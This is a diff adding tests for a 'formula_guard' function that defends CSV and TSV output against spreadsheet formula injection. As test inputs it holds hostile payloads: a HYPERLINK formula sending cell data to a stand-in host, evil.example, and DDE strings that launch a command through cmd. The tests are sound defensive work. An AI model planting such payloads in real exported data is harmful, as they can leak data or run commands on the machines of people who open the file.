@@ -13,6 +13,7 @@ from blo.cli.tables import (
     csv_text,
     display_width,
     escape,
+    formula_guard,
     json_lines,
     json_text,
     render_table,
@@ -142,3 +143,41 @@ def test_csv_has_a_header_and_quotes_what_needs_quoting() -> None:
 
 def test_tsv_escapes_as_clickhouse_does() -> None:
     assert tsv_lines([["a\tb", "c\nd", "e\\f", None, 1]]) == ["a\\tb\tc\\nd\te\\\\f\t\\N\t1"]
+
+
+# -- spreadsheet formulas (OWASP CSV injection) ----------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize(("raw", "written"), [
+    (HYPERLINK, "'" + HYPERLINK),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"),
+    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
+    ("-", "'-"), ("+", "'+"), ("=", "'="), ("-inf", "'-inf"), ("-1-1", "'-1-1"),
+    ("-3.5\n=1", "'-3.5\n=1"), ("-\u0663", "'-\u0663"),  # an Arabic-Indic digit: not a number
+])
+def test_text_that_a_spreadsheet_would_run_gets_a_quote(raw: str, written: str) -> None:
+    assert formula_guard(raw) == written
+
+
+@pytest.mark.parametrize("value", [
+    -3.5, -3, 0, 2.5, None, True, ["=1", "-2"], (), "", "plain", "KZ-NURZHOL", "a=b", " =1",
+    "'=already", "-3.5", "+7", "-1e-5", "-.5", "+12.", "-00042",  # numbers as text stay numbers
+])
+def test_numbers_and_other_values_stay_as_they_are(value: object) -> None:
+    assert formula_guard(value) == value
+
+
+def test_csv_and_tsv_guard_formulas_unless_told_not_to() -> None:
+    rows = [[HYPERLINK, -3.5, "-3.5", "@x", None]]
+    text = csv_text(["=name", "-1"], rows)
+    assert list(csv.reader(io.StringIO(text))) == [
+        ["'=name", "-1"], ["'" + HYPERLINK, "-3.5", "-3.5", "'@x", ""]]
+    assert list(csv.reader(io.StringIO(csv_text(["=name", "-1"], rows, guard=False)))) == [
+        ["=name", "-1"], [HYPERLINK, "-3.5", "-3.5", "@x", ""]]
+    # the quote goes in front of the value; TabSeparated escaping comes after
+    assert tsv_lines([["\t=1", -3.5, None]]) == ["'\\t=1\t-3.5\t\\N"]
+    assert tsv_lines([["\t=1", -3.5, None]], guard=False) == ["\\t=1\t-3.5\t\\N"]
